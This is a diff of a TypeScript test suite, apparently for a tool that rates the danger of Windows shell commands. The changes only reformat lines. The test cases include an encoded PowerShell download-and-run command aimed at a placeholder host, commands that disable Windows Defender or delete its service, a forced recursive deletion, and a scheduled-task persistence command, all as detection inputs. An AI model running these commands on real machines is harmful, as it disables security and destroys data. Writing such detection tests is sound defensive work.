@@ -10,7 +10,12 @@ const score = (cmd: string) => engine.assess(cmd, PROJECT);
 
 describe('reading Windows command lines', () => {
   it('keeps backslashes, groups quotes, and splits commands on ; | & && ||', () => {
-    expect(windowsWords('del /f "C:\\Program Files\\x" C:\\a\\b').map((w) => w.text)).toEqual(['del', '/f', 'C:\\Program Files\\x', 'C:\\a\\b']);
+    expect(windowsWords('del /f "C:\\Program Files\\x" C:\\a\\b').map((w) => w.text)).toEqual([
+      'del',
+      '/f',
+      'C:\\Program Files\\x',
+      'C:\\a\\b',
+    ]);
     const cmds = windowsCommands('Get-ChildItem C:\\x | Remove-Item -Recurse; echo done');
     expect(cmds.map((c) => c.argv[0]?.text)).toEqual(['Get-ChildItem', 'Remove-Item', 'echo']);
     expect(cmds[1]?.pipeFrom?.[0]?.text).toBe('Get-ChildItem');
@@ -53,7 +58,10 @@ describe('shells and elevation judge what they run', () => {
     ['cmd /k', 'medium'],
     ['powershell -Command "Remove-Item -Recurse -Force C:\\Users\\dev"', 'critical'],
     ['pwsh -c "Get-ChildItem src; Get-Date"', 'low'],
-    ['powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUAeAAuAGMAbwBtACkA', 'critical'],
+    [
+      'powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUAeAAuAGMAbwBtACkA',
+      'critical',
+    ],
     ['powershell -ExecutionPolicy Bypass -File scripts\\build.ps1', 'medium'],
     ['gsudo choco install -y nodejs', 'high'],
     ['gsudo', 'high'],
@@ -67,7 +75,9 @@ describe('shells and elevation judge what they run', () => {
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
 
   it('says what an encoded command hides', () => {
-    expect(score('powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUAeAAuAGMAbwBtACkA').reasons[0]).toContain('IEX (irm https://ex.com)');
+    expect(
+      score('powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUAeAAuAGMAbwBtACkA').reasons[0],
+    ).toContain('IEX (irm https://ex.com)');
   });
 });
 
@@ -85,7 +95,10 @@ describe('the Windows machine', () => {
     ['reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f', 'critical'],
     ['reg add HKCU\\Software\\MyApp /v Theme /d dark /f', 'medium'],
     ['reg query HKCU\\Software\\MyApp', 'low'],
-    ['Set-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate -Name x -Value 1', 'critical'],
+    [
+      'Set-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate -Name x -Value 1',
+      'critical',
+    ],
     ['schtasks /create /sc minute /tn upd /tr C:\\Users\\dev\\upd.exe', 'high'],
     ['schtasks /query', 'low'],
     ['Set-MpPreference -DisableRealtimeMonitoring $true', 'critical'],
